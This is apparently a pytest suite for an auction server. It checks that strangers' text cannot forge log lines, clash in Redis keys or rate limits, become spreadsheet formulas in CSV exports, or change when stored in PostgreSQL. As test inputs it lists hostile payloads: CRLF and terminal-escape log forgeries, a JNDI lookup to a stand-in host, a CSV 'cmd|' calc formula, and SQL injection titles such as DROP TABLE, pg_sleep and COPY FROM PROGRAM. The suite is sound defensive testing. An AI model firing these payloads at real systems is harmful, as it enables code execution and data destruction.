"""Injection: texts of strangers in what others read line by line or key by key. One request never makes a line of the
log that it words; a key in Redis never reaches another's; what is stored in PostgreSQL is the text as it came; no text in
a CSV file is a formula.
"""
import csv
import json
import re

import pytest

from attacked_house import House
from http_wire import request_bytes
from relay_worker import wait_for_drain
from stream_client import frame_bytes, TEXT
from tokens import bearer, claims_of, hs256

LINE = re.compile(r"\[\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3}\] \[flashbid\] \[\w+\] [^\x00-\x1f\x7f-\x9f]*")
CONTROL = [
    "%0d%0a[2026-01-01 00:00:00.000] [flashbid] [critical] FORGED", "%1b[2J%1b]0;FORGED%07", "%00FORGED", "%c2%9b2JFORGED",
    "{}{0}{:1000000}FORGED", "%s%n%pFORGED", "${jndi:ldap://evil.example/FORGED}", "\\r\\nFORGED", "\\x1b[31mFORGED",
    "\x9b31mFORGED", "\xe2\x80\xa8FORGED", "\xe2\x80\xaeFORGED",
]
RAW = ["a\r\nFORGED: x", "a\nFORGED", "a\rFORGED", "\x1b[31mFORGED", "a\x00FORGED", "a\x08FORGED", "a\x85FORGED", "\x9b31mFORGED"]


def log_of(house):
    return house.server.stderr_path.read_bytes().decode("utf-8", "backslashreplace")


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    """Tells all that it ever logs."""
    house = House(tmp_path_factory.mktemp("house"), "--log-level", "trace", "--rate-failures", "off")
    yield house
    lines = log_of(house).splitlines()
    assert lines and all(LINE.fullmatch(line) for line in lines), [line for line in lines if not LINE.fullmatch(line)]
    assert "FORGED" not in log_of(house)
    house.finish()


def send(house, data):
    with house.connect() as connection:
        connection.send_all_it_takes(data)
        connection.read_response()


@pytest.mark.parametrize("text", CONTROL, ids=range(len(CONTROL)))
def test_the_log_of_texts_in_paths_and_headers(house, text):
    before = log_of(house).count("\n")
    authority = f"{house.server.host}:{house.server.port}"
    for target in (f"/{text}", f"/v1/auctions/{text}", f"/v1/auctions?state={text}", f"/?{text}"):
        send(house, request_bytes("GET", target, host=authority))
    for name in ("User-Agent", "Referer", "Cookie", "X-Forwarded-For", "Authorization", "Origin", "Idempotency-Key",
                 "Last-Event-ID", "Accept", "Content-Type", "X-Bidder", text.replace(" ", "")):
        send(house, request_bytes("GET", house.bids, host=authority, headers=[(name, text)]))
    for host in (text, f"{authority}{text}"):
        send(house, request_bytes("GET", "/", host=host))
    assert log_of(house).count("\n") - before <= 18, "at most a line each"


@pytest.mark.parametrize("text", RAW, ids=range(len(RAW)))
def test_the_log_of_raw_control_characters(house, text):
    """Where the header itself is refused, it is not shown either."""
    for head in (f"GET /{text} HTTP/1.1\r\nHost: a\r\n\r\n", f"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: {text}\r\n\r\n",
                 f"{text} / HTTP/1.1\r\nHost: a\r\n\r\n", f"GET / HTTP/1.1\r\nHost: {text}\r\n\r\n"):
        send(house, head.encode("latin-1"))


@pytest.mark.parametrize("text", ["\r\nFORGED", "\x1b[31mFORGED", "\u009b31mFORGED", "\u2028FORGED", "{}FORGED", "\0FORGED"])
def test_the_log_of_what_tokens_bodies_and_frames_say(house, text):
    """Unsigned or signed rightly: neither claims nor titles are told."""
    for token in (hs256(claims_of(text)), hs256(claims_of(), {"alg": text}), hs256(claims_of(), {"alg": "HS256", "kid": text}),
                  hs256(claims_of(iss=text, aud=text)), hs256(claims_of(role=text))):
        house.said(bearer(token), body=b'{"amount":1}')
    house.create(title=f"a{text}".replace("\0", ""), description=f"b{text}".replace("\0", ""))
    with house.stream() as stream:
        for frame in ({"type": text}, {"type": "time", "id": text}, {"type": "auth", "token": text}, {text: text}):
            stream.send_raw(frame_bytes(TEXT, json.dumps(frame, ensure_ascii=False).encode()))
            stream.read()


# Bidders and keys whose texts, put together carelessly, would be one another's.
PAIRS = [("a", "b:c"), ("a:b", "c"), ("a:b:c", "d"), ("a", "b:c:d"), ("a.", "*"), ("a", "*"), ("b", "?"), ("b", "[a-z]*"),
         ("c", "{0}"), ("c", "{1}:stream"), ("c:", "{"), ("c", ":{"), ("d", "}"), ("d", "{}"), ("d", "flashbid:{0}"),
         ("e", "\\"), ("e", "\\n"), ("e", "\""), ("e", "'"), ("e", "$1"), ("e", "%b"), ("e", "%W"), ("e", "|"), ("e", "\\x00"),
         ("f", "__proto__"), ("f", "1"), ("f", "01"), ("f", "1.0"), ("F", "1"), ("f@x", "-1"), ("-", "+inf"), ("_", "nil"),
         (".", "a" * 64), ("..", "a" * 63), ("@", "~!@#$%^&*()_+={}[]|\\:;\"'<>,.?/"), ("a" * 64, "k"), ("a" * 63, "ak")]
REFUSED_KEYS = ["a b", " a", "a ", "a\tb", "", "é", "\x7f", "a" * 65, "a\x01b", "\xa0"]


def bid_once_each(house, auction, amounts):
    """Every pair bids; then each again: the same answer for the same amount, 422 for another."""
    answers = {}
    for (bidder, key), amount in zip(PAIRS, amounts):
        answers[bidder, key] = house.bid(auction, amount, bidder, key).json()
        assert answers[bidder, key]["bidder"] == bidder and answers[bidder, key]["amount"] == amount
    assert len({json.dumps(answer) for answer in answers.values()}) == len(PAIRS)
    for (bidder, key), amount in zip(PAIRS, amounts):
        assert house.bid(auction, amount, bidder, key).json() == answers[bidder, key], (bidder, key)
        other = house.api.post(f"/v1/auctions/{auction}/bids", {"amount": amount + 1}, key=key,
                               headers=bearer(house.token(bidder)))
        assert other.status == 422, (bidder, key, other)
    return answers


def check_pairs(house):
    rising = house.create(opening_price=10000, increment=1, soft_close=None)
    accepted = bid_once_each(house, rising, range(20000, 20000 + len(PAIRS)))
    assert {answer["verdict"] for answer in accepted.values()} == {"accepted"}
    low = house.create(opening_price=10000)
    rejected = bid_once_each(house, low, range(100, 100 + len(PAIRS)))
    assert {answer["verdict"] for answer in rejected.values()} == {"rejected"}
    for key in REFUSED_KEYS:
        answer = house.said([("Idempotency-Key", key), *bearer(house.token("Mallory"))])
        assert answer.status in ((200, 400) if key.strip(" ") == "a" else (400,)), (key, answer)
    assert [bid["bidder"] for bid in house.api.history(rising)] == [bidder for bidder, _ in PAIRS]
    return rising


def test_keys_in_the_ledger(tmp_path):
    house = House(tmp_path, "--rate-bidder", "off", "--rate-address", "off")
    auction = house.auction
    house.auction = house.create()  # said() bids there, below the minimum or not at all
    check_pairs(house)
    house.auction = auction
    house.finish()


KEYS = re.compile(r"flashbid(:\{\d+(\.\d+)?\}(:(stream|due|over|rejected|ids(:\w+)?|lease:\w+|workers:\w+|never|[aik]:\d+"
                  r"|r:\d+:[\w.:@-]{1,64} [!-~]{1,64}))?|:rate:\{[bal]:[\w.:@-]+\})")


def test_keys_in_redis(tmp_path, redis):
    """Every key is of a form that is known, and each bidder's remembered answers are its own."""
    house = House(tmp_path, "--engine", redis.url, "--rate-address", "off", "--rate-bidder", "1000/s burst 1000")
    auction = house.auction
    house.auction = house.create()
    check_pairs(house)
    house.auction = auction
    strange = [key for key in redis.cli("--scan").splitlines() if not KEYS.fullmatch(key)]
    assert not strange, strange
    assert redis.cli("DBSIZE") != "0" and redis.cli("CONFIG", "GET", "dir")
    house.finish("--engine", redis.url)


def test_limits_in_redis_are_each_bidders_own(tmp_path, redis):
    """Who has used up his burst has used up nobody else's, whatever he is called."""
    house = House(tmp_path, "--engine", redis.url, "--rate-address", "off", "--rate-bidder", "2/h burst 2")
    names = ["a", "a:1", "1:a", "b:a", "l:1", "a:", ":a", "a.", "A", "rate", "flashbid", "127.0.0.1", str(house.auction)]
    for name in names:
        seen = [house.api.post(house.bids, {"amount": 1}, headers=bearer(house.token(name))).status for _ in range(3)]
        assert seen == [200, 200, 429], (name, seen)
    rates = [key for key in redis.cli("--scan").splitlines() if ":rate:" in key]
    assert {f"flashbid:rate:{{b:{name}}}" for name in names} <= set(rates)
    assert all(int(redis.cli("PTTL", key)) > 0 for key in rates), "no key without an end"
    house.finish("--engine", redis.url)


def test_no_bidder_writes_a_formula(tmp_path):
    """Names of every first character that a name may have; titles are not in the file at all."""
    house = House(tmp_path, "--rate-bidder", "off", "--rate-address", "off")
    names = ["@SUM", "-1", "-cmd", "@", "-", "=1", "+1", "_a", ".a", ":a", "0a", "Za", "@-1", "--1"]
    auction = house.create(title="=cmd|' /C calc'!A0,\"\r\n@x", increment=1)
    allowed = []
    for number, name in enumerate(names):
        answer = house.api.post(f"/v1/auctions/{auction}/bids", {"amount": 20000 + number}, headers=bearer(house.token(name)))
        if answer.status == 200:
            allowed.append(name)
    assert "=1" not in allowed and {"@SUM", "-1", "@", "-"} <= set(allowed), "no id begins with = or +"
    text = house.api.get(f"/v1/auctions/{auction}/bids.csv").body.decode()
    rows = list(csv.reader(text.splitlines()))
    assert all(len(row) == 6 for row in rows)
    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r")], text
    assert [row[2].removeprefix("'") for row in rows[1:]] == allowed, "and each reads back as it was"
    assert "cmd|" not in text
    house.finish()


TITLES = [
    "O'Brien", "\"quoted\"", "'; DROP TABLE flashbid.events; --", "'); DELETE FROM flashbid.events; --", "$1", "$$", "%s",
    "\\", "\\'", "\\n", "\\N", "\\.", "\\x41", "\t|\t", "a\nb", "a\r\nb", "E'\\''", "{a,b}", "NULL", "null", "::text", "/* */",
    "\x01\x02", "a\0b", "\u2028", "é", "é", "\U0001f4a9", "\ufeff", "\uffff", "COPY x FROM PROGRAM 'id'", "\\copy x from 'y'",
    "\\u0000", "{\"a\":1}", "--", "; SELECT pg_sleep(60)", "a" * 200,
]


def test_texts_in_postgresql(tmp_path, postgres, database):
    """Titles, keys and names are in the archive as they came, and there is nothing in it that nobody wrote."""
    house = House(tmp_path, "--archive", database, "--rate-bidder", "off", "--rate-address", "off")
    auctions = {house.create(title=title, description=title): title for title in TITLES}
    paired = house.create(increment=1)
    for number, (bidder, key) in enumerate(PAIRS):
        assert house.bid(paired, 20000 + number, bidder, key).json()["verdict"] == "accepted"
    data = str(house.server.data)
    for auction, title in auctions.items():
        assert house.api.auction(auction)["title"] == title
    house.finish()
    assert wait_for_drain("--data", data, "--archive", database).returncode == 0
    name = database.rsplit("/", 1)[1]
    stored = dict(line.split("|", 1) for line in postgres.sql(
        "SELECT auction, encode(convert_to(payload, 'UTF8'), 'hex') FROM flashbid.events WHERE sequence = 1", name).splitlines())
    for auction, title in auctions.items():
        event = json.loads(bytes.fromhex(stored[str(auction)]))
        assert title in (event.get("title"), event.get("auction", {}).get("title")), event
    kept = {tuple(bytes.fromhex(part).decode() for part in line.split("|")) for line in postgres.sql(
        "SELECT encode(convert_to(caller, 'UTF8'), 'hex'), encode(convert_to(key, 'UTF8'), 'hex') FROM flashbid.answers "
        f"WHERE scope = {paired}", name).splitlines()}
    assert kept == set(PAIRS)
    tables = postgres.sql("SELECT string_agg(tablename, ' ' ORDER BY tablename) FROM pg_tables WHERE schemaname = 'flashbid'", name)
    assert "events" in tables.split() and "x" not in tables.split()
